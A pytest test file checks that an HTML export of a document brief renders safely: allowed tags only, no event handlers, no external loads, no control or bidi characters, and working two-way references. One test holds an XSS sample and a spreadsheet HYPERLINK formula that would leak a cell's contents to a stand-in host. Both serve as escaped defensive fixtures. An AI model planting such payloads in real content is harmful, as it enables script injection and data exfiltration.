"""A brief as HTML: what an article says stays text, references lead to sentences and back, nothing is loaded."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kgtui.export.html import page_html
from kgtui.export.page import page_of
from kgtui.library import Library
from kgtui.locale import use_language

from .brief_pages import brief_of

OURS = set("html head meta title style body main header section footer div h1 h2 p span b sup a ol li dl dt dd".split())


class Read(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attributes]
        if tag != "meta":
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        assert self._open or not data.strip()
        if self._open and self._open[-1] != "style":
            self.text += data

    def of(self, attribute: str) -> list[str]:
        return [value for name, value in self.attributes if name == attribute]


@pytest.fixture
def source(brief_library: Library) -> str:
    use_language("ru")
    return page_html(page_of(brief_of(brief_library)))


@pytest.fixture
def read(source: str) -> Read:
    return Read(source)


def test_only_our_tags_stand_in_it(read: Read) -> None:
    assert set(read.tags) <= OURS
    assert not [name for name, _value in read.attributes if name.startswith("on") or name in ("src", "style")]


def test_what_an_article_says_is_text(read: Read) -> None:
    assert "<script>alert(1)</script>" in read.text
    assert '=HYPERLINK("http://example.org/?"&A1;"Товарооборот")' in read.text


def test_nothing_is_loaded_and_nothing_runs(read: Read, source: str) -> None:
    assert all(link.startswith("#") for link in read.of("href"))
    assert "default-src 'none'" in read.of("content")[0]
    assert "url(" not in source
    assert "@import" not in source


def test_no_control_character_is_left(source: str) -> None:
    assert not [sign for sign in source if sign < " " and sign != "\n"]
    assert not {"\u202e", "\u200f", "\u2028"} & set(source)


def test_every_reference_leads_to_its_sentence_and_back(read: Read) -> None:
    places = read.of("id")
    links = [link.removeprefix("#") for link in read.of("href")]
    assert len(places) == len(set(places))
    assert set(links) == set(places)
